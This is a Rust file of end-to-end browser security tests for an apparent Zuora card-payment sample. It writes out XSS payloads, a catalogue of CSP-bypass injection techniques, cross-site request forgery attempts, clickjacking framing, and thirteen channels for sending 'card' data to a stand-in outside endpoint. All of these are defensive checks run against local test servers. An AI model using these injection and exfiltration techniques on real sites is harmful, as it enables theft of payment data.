//! What other sites' pages and injected code can do to the page, in a real browser: nothing that matters (T4, T8, T12, T13, T14).

use end2end::{
    App, BrowserTest, Card, OtherSite, Result, Setup, block_on, browser_test, nothing_happens_for,
};
use playwright_rs::expect;
use serde_json::{Value, json};
use std::time::Duration;

const A_MOMENT: Duration = Duration::from_millis(700);

#[test]
fn t4_another_sites_page_gets_nothing_signed() {
    browser_test(Setup::default(), async |test| {
        // A session is there to be abused.
        test.open_add_card().await?;
        let sign = format!("{}/api/sign/create-payment-method", test.site);
        let page = format!(
            "<form id=f method=post enctype=text/plain action='{sign}'><input name='{{}}' value=''></form><iframe name=i></iframe><script>
             const ways = [
               () => fetch('{sign}', {{ method: 'POST', body: '{{}}', mode: 'no-cors', credentials: 'include' }}),
               () => fetch('{sign}', {{ method: 'POST', body: '{{}}', credentials: 'include', headers: {{ 'content-type': 'application/json' }} }}),
               () => navigator.sendBeacon('{sign}', '{{}}'),
               () => {{ f.target = 'i'; f.submit(); }},
             ];
             for (const way of ways) {{ try {{ way()?.catch?.(() => 0); }} catch {{}} }}
             </script>"
        );
        let other_site = OtherSite::with_page(page).await?;
        for origin in
            [other_site.origin.clone(), other_site.origin.replace("127.0.0.1", "localhost")]
        {
            test.page.goto(&origin, None).await?;
            nothing_happens_for(A_MOMENT).await;
        }
        let sent = String::from_utf8_lossy(&test.recorder.sent()).into_owned();
        assert!(
            sent.matches("POST /api/sign/create-payment-method").count() >= 4,
            "the page did try"
        );
        assert!(test.sandbox.calls().await?.is_empty(), "Zuora was not asked");
        Ok(())
    });
}

#[test]
fn t8_neither_token_nor_signature_is_in_the_log() {
    browser_test(Setup::default(), async |test| {
        test.open_add_card().await?;
        let ticket: Value = test
            .page
            .evaluate(
                "async () => (await fetch('/api/sign/create-payment-method', { method: 'POST', body: '{}', headers: { \
                 'content-type': 'application/json' } })).json()",
                None::<&()>,
            )
            .await?;
        let log = test.app.log();
        assert!(
            log.contains("hmac-signatures") || log.contains("signature"),
            "the log is gathered"
        );
        for secret in ["token", "signature"] {
            let secret = ticket[secret].as_str().ok_or("a ticket")?;
            assert!(!log.contains(secret), "{log}");
        }
        assert!(!log.contains("sandbox-demo-secret") && !log.contains("Bearer "), "{log}");
        Ok(())
    });
}

#[test]
fn t12_what_zuora_says_is_text_and_never_markup() {
    browser_test(Setup::default(), async |test| {
        let form = test.open_add_card().await?;
        let message =
            "<img src=x onerror=document.title='owned'><script>document.title='owned'</script>";
        test.sandbox
            .fail(
                "create-payment-method",
                json!({"reason": {"code": 59_210_020, "message": message}}),
            )
            .await?;
        form.save_card(Card::VISA).await?;
        expect(form.alert()).to_contain_text(message).await?;
        let images: u32 = test
            .page
            .evaluate("() => document.querySelectorAll('main img').length", None::<&()>)
            .await?;
        assert_eq!((images, test.page.title().await?.contains("owned")), (0, false));
        Ok(())
    });
}

/// Tries each of these in the page, counts what the policy has blocked, and says which had an effect.
async fn attempts(test: &BrowserTest, attempts: &[(&str, String)]) -> Result<(Vec<String>, u32)> {
    let tried = json!(attempts);
    let result: Value = test
        .page
        .evaluate(
            "async (attempts) => { \
                 let blocked = 0; \
                 document.addEventListener('securitypolicyviolation', () => blocked++); \
                 window.owned = ''; \
                 const done = []; \
                 for (const [name, code] of attempts) { \
                     try { await (await window.attempt[name]?.(code)); } catch {} \
                     await new Promise((resume) => setTimeout(resume, 60)); \
                     if (window.owned) done.push(name); \
                     window.owned = ''; \
                 } \
                 return [done, blocked]; }",
            Some(&tried),
        )
        .await?;
    let done =
        result[0].as_array().into_iter().flatten().filter_map(Value::as_str).map(str::to_owned);
    let blocked = result[1].as_u64().and_then(|count| u32::try_from(count).ok());
    Ok((done.collect(), blocked.ok_or("a count")?))
}

/// Ways of getting code to run that an injected piece of markup or a mistake of ours could open. The harness's own code runs outside the policy.
const RUN: &str = "window.attempt = { \
    inline: (code) => { const s = document.createElement('script'); s.append(code); document.body.append(s); }, \
    handler: (code) => { const p = document.createElement('p'); p.setAttribute('onclick', code); document.body.append(p); p.click(); }, \
    link: (code) => { const a = document.createElement('a'); a.setAttribute('href', 'javascript:' + code); document.body.append(a); a.click(); }, \
    markup: (code) => { document.body.insertAdjacentHTML('beforeend', `<img src=x onerror=\"${code}\">`); }, \
    foreign: (url) => { const s = document.createElement('script'); s.setAttribute('src', url); document.body.append(s); }, \
    object: (url) => { const o = document.createElement('object'); o.setAttribute('data', url); document.body.append(o); }, \
    frame: (url) => { const f = document.createElement('iframe'); f.setAttribute('src', url); document.body.append(f); }, \
    base: (url) => { const b = document.createElement('base'); b.setAttribute('href', url); document.head.append(b); \
        if (document.baseURI.startsWith(url)) window.owned = 'yes'; b.remove(); }, \
    worker: (url) => { new Worker(url); }, \
    module: (code) => { const s = document.createElement('script'); s.type = 'module'; s.append(code); document.body.append(s); }, \
    copied: (code) => { const s = document.createElement('script'); s.nonce = document.querySelector('script').nonce; s.append(code); \
        document.body.append(s); }, \
    created: (code) => { const t = document.createElement('div'); t.innerHTML = `<script>${code}</script>`; document.body.append(t); }, \
    fragment: (code) => { document.body.append(document.createRange().createContextualFragment(`<script>${code}</script>`)); }, \
    framed: (code) => { document.body.insertAdjacentHTML('beforeend', `<iframe srcdoc=\"<script>parent.${code}</script>\"></iframe>`); }, \
    data: (code) => import(`data:text/javascript,${code}`), \
    evaluated: (code) => { (0, eval)(code); }, \
    timed: (code) => { setTimeout(code); }, \
};";

#[test]
fn t12_injected_code_does_not_run() {
    browser_test(Setup::default(), async |test| {
        test.page.add_init_script(RUN).await?;
        test.open_add_card().await?;
        let other_site = OtherSite::with_page("window.owned = 'yes'".into()).await?;
        let code = "window.owned = 'yes'".to_owned();
        let mine = [
            "inline",
            "handler",
            "link",
            "markup",
            "module",
            "copied",
            "created",
            "fragment",
            "framed",
            "data",
            "evaluated",
            "timed",
        ];
        let mine: Vec<_> = mine.map(|name| (name, code.clone())).into();
        let theirs = ["foreign", "object", "frame", "base", "worker"]
            .map(|name| (name, format!("{}/", other_site.origin)));
        let all: Vec<_> = mine.into_iter().chain(theirs).collect();
        let (done, blocked) = attempts(test, &all).await?;
        assert_eq!(done, Vec::<String>::new());
        assert!(blocked >= 11, "{blocked} of {} were reported", all.len());
        assert_eq!(other_site.requests(), Vec::<String>::new());
        // The twin: where there is no such policy, the same attempts do run.
        test.page.goto(&other_site.origin, None).await?;
        let (done, _) = attempts(test, &all[..2]).await?;
        assert_eq!(done, ["inline", "handler"]);
        Ok(())
    });
}

/// Speculation rules make a browser ask for an address, with whatever is in it, and are no script of the kind that a nonce would have been needed for.
#[test]
fn t12_t13_speculation_rules_carry_nothing_away() {
    browser_test(Setup::default(), async |test| {
        test.page.add_init_script(SPECULATE).await?;
        test.open_add_card().await?;
        let other_site = OtherSite::with_page(String::new()).await?;
        let url = format!("{}/?card", other_site.origin);
        let all = ["rules", "copied", "markup"].map(|name| (name, url.clone()));
        let (_, blocked) = attempts(test, &all).await?;
        nothing_happens_for(A_MOMENT).await;
        assert_eq!(other_site.requests(), Vec::<String>::new());
        assert!(blocked >= 2, "{blocked} of {} were reported", all.len());
        Ok(())
    });
}

const SPECULATE: &str = "const rules = (url) => JSON.stringify({ prefetch: [{ source: 'list', urls: [url], eagerness: 'immediate' }] }); \
    const speculate = (url, nonce) => { const s = document.createElement('script'); s.type = 'speculationrules'; s.nonce = nonce; \
        s.textContent = rules(url); document.head.append(s); }; \
    window.attempt = { \
    rules: (url) => speculate(url, ''), \
    copied: (url) => speculate(url, document.querySelector('script').nonce), \
    markup: (url) => { document.body.insertAdjacentHTML('beforeend', `<script type=\"speculationrules\">${rules(url)}</script>`); }, \
};";

/// What becomes markup is only what this page's own code draws.
#[test]
fn t12_markup_that_runs_or_leads_elsewhere_is_refused() {
    browser_test(Setup::default(), async |test| {
        test.open_add_card().await?;
        let refused = [
            "<script>x</script>",
            "<SCRIPT src=x>",
            "<iframe src=x>",
            "<p srcdoc=x>",
            "<object data=x>",
            "<embed src=x>",
            "<base href=x>",
            "<meta http-equiv=refresh content=0>",
            "<link rel=preload href=x>",
            "<form action=x>",
            "<svg onload=x>",
            "<img src=x onerror=x>",
            "<p\nonclick\t=x>",
            "<a href=javascript:x>",
        ];
        let taken = [
            "<p class=\"notice\"><b>Card saved</b><!----></p>",
            "<button type=\"button\">On = off</button>",
        ];
        let pass = "(all) => all.filter((markup) => { try { document.createElement('div').innerHTML = markup; return true; } catch { return false; } })";
        let passed: Vec<String> = test.page.evaluate(pass, Some(&refused)).await?;
        assert_eq!(passed, Vec::<String>::new());
        let passed: Vec<String> = test.page.evaluate(pass, Some(&taken)).await?;
        assert_eq!(passed, taken);
        Ok(())
    });
}

/// Ways of sending something away.
const SEND: &str = "window.attempt = { \
    fetch: (url) => fetch(url, { method: 'POST', body: 'card' }), \
    opaque: (url) => fetch(url, { method: 'POST', body: 'card', mode: 'no-cors' }), \
    beacon: (url) => { navigator.sendBeacon(url, 'card'); }, \
    xhr: (url) => { const x = new XMLHttpRequest(); x.open('POST', url); x.send('card'); }, \
    socket: (url) => { new WebSocket(url.replace('http', 'ws')); }, \
    events: (url) => { new EventSource(url); }, \
    image: (url) => { new Image().src = url; }, \
    style: (url) => { document.body.style.backgroundImage = `url(${url})`; }, \
    sheet: (url) => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = url; document.head.append(l); }, \
    prefetch: (url) => { const l = document.createElement('link'); l.rel = 'prefetch'; l.href = url; document.head.append(l); }, \
    preload: (url) => { const l = document.createElement('link'); l.rel = 'preload'; l.as = 'image'; l.href = url; document.head.append(l); }, \
    media: (url) => { const v = document.createElement('video'); v.src = url; v.load(); }, \
    form: (url) => { const f = document.createElement('form'); f.action = url; f.method = 'post'; document.body.append(f); f.submit(); }, \
};";

#[test]
fn t13_nothing_can_be_sent_to_anybody_else() {
    browser_test(Setup::default(), async |test| {
        test.page.add_init_script(SEND).await?;
        test.open_add_card().await?;
        let other_site = OtherSite::with_page(String::new()).await?;
        let names = [
            "fetch", "opaque", "beacon", "xhr", "socket", "events", "image", "style", "sheet",
            "prefetch", "preload", "media", "form",
        ];
        let all = names.map(|name| (name, format!("{}/collect", other_site.origin)));
        let (_, blocked) = attempts(test, &all).await?;
        nothing_happens_for(A_MOMENT).await;
        assert_eq!(other_site.requests(), Vec::<String>::new());
        assert!(blocked >= 11, "{blocked} of {} were reported", names.len());
        // The twin: from a page without the policy they do arrive.
        test.page.goto(&other_site.origin, None).await?;
        let before = other_site.requests().len();
        attempts(test, &all[..4]).await?;
        assert!(other_site.requests().len() >= before + 3);
        Ok(())
    });
}

#[test]
fn t14_no_other_site_can_frame_the_page() {
    browser_test(Setup::default(), async |test| {
        let framing =
            |address: &str| format!("<h1>Win a prize</h1><iframe src='{address}'></iframe>");
        let other_site = OtherSite::with_page(framing(&test.site)).await?;
        test.page.goto(&other_site.origin, None).await?;
        nothing_happens_for(A_MOMENT).await;
        assert!(test.recorder.sent().starts_with(b"GET / HTTP"), "the page was asked for");
        let framed = test.page.frame_locator("iframe").locator("#card-form");
        assert_eq!(framed.count().await?, 0);
        // The twin: a page that does not mind is shown.
        let willing = OtherSite::with_page("<form id=card-form>a form</form>".into()).await?;
        let other_site = OtherSite::with_page(framing(&willing.origin)).await?;
        test.page.goto(&other_site.origin, None).await?;
        expect(test.page.frame_locator("iframe").locator("#card-form")).to_be_visible().await?;
        Ok(())
    });
}

/// The audit log is there whatever else is logged.
#[test]
fn t5_every_signature_is_audited_with_hashes_and_no_keys() {
    let setup = Setup {
        settings: vec![("RUST_LOG", "error,zuora_cors_sample::server::start=info".into())],
        ..Setup::default()
    };
    browser_test(setup, async |test| {
        let form = test.open_add_card().await?;
        form.save_card(Card::VISA).await?;
        expect(form.saved()).to_be_visible().await?;
        let log = test.app.log();
        let events: Vec<Value> =
            log.lines().filter_map(|line| serde_json::from_str(line).ok()).collect();
        let audited: Vec<_> = events.iter().filter(|event| event["target"] == "audit").collect();
        let [event] = audited.as_slice() else {
            return Err(format!("one event: {log}").into());
        };
        assert_eq!(event["outcome"], "signed");
        assert_eq!(event["operation"], "/v1/payment-methods/credit-cards");
        for hashed in ["session", "account", "address"] {
            let hash = event[hashed].as_str().ok_or("a hash")?;
            assert!(
                hash.len() == 16 && hash.bytes().all(|byte| byte.is_ascii_lowercase()),
                "{hashed}: {hash}"
            );
        }
        let request = event["request"].as_str().ok_or("an id")?;
        let journal = test.sandbox.journal().await?;
        let signed = journal
            .iter()
            .find(|exchange| exchange["path"] == "/v1/hmac-signatures")
            .ok_or("it was asked")?;
        assert_eq!(signed["headers"]["zuora-track-id"], request, "the same id in Zuora's log");
        let audited = event.to_string();
        assert!(!audited.contains("A00000001") && !audited.contains("127.0.0.1"), "{audited}");
        Ok(())
    });
}

/// The policy names the script that reloads the page by its hash, like every other; a policy that did not would leave development without it.
#[test]
fn t16_under_cargo_leptos_watch_the_reload_script_runs_and_nothing_is_blocked() {
    let setup = Setup {
        settings: vec![("LEPTOS_WATCH", "true".into()), ("LEPTOS_RELOAD_PORT", "9".into())],
        ..Setup::default()
    };
    browser_test(setup, async |test| {
        test.open_add_card().await?;
        let console = test.console();
        assert!(console.iter().any(|line| line.contains("HOT RELOADING")), "it runs: {console:?}");
        assert!(
            !console.iter().any(|line| line.contains("Content Security Policy")),
            "{console:?}"
        );
        Ok(())
    });
}

/// Cookies ignore ports, and the page's call carries credentials as Zuora's sample does: another host name is what keeps them apart.
#[test]
fn t16_the_sessions_cookie_never_travels_to_the_sandbox() {
    browser_test(Setup::default(), async |test| {
        let form = test.open_add_card().await?;
        form.save_card(Card::VISA).await?;
        expect(form.saved()).to_be_visible().await?;
        assert!(
            String::from_utf8_lossy(&test.recorder.sent()).to_lowercase().contains("\r\ncookie: "),
            "there is one"
        );
        let journal = test.sandbox.journal().await?;
        assert!(
            journal.iter().any(|exchange| exchange["method"] == "OPTIONS"),
            "the page has called"
        );
        assert!(
            journal.iter().all(|exchange| exchange["headers"]["cookie"].is_null()),
            "{journal:?}"
        );
        Ok(())
    });
}

/// The address that a budget goes by is the one that the connection comes from, or what a trusted proxy says of it.
#[test]
fn t18_the_address_of_a_connection_is_the_one_that_counts() {
    block_on(async {
        let app = App::start(&[("TRUSTED_PROXIES", "127.0.0.0/8".into())]).await?;
        let http = reqwest::Client::new();
        let page = http.get(&app.site).send().await?;
        let cookie =
            page.headers()["set-cookie"].to_str()?.split(';').next().unwrap_or_default().to_owned();
        for address in ["198.51.100.1", "198.51.100.2", "198.51.100.1"] {
            let signing =
                http.post(format!("{}/api/sign/create-payment-method", app.site)).body("{}");
            let signing = signing
                .header("cookie", &cookie)
                .header("origin", &app.site)
                .header("x-forwarded-for", address);
            let answer = signing.header("content-type", "application/json").send().await?;
            assert_eq!(answer.status(), 200);
        }
        let events = app.log();
        let events = events.lines().filter_map(|line| serde_json::from_str::<Value>(line).ok());
        let addresses: Vec<_> = events
            .filter(|event| event["target"] == "audit")
            .map(|event| event["address"].clone())
            .collect();
        let [first, second, third] = addresses.as_slice() else {
            return Err(format!("three events: {addresses:?}").into());
        };
        assert!(first != second && first == third, "{addresses:?}");
        Ok(())
    });
}
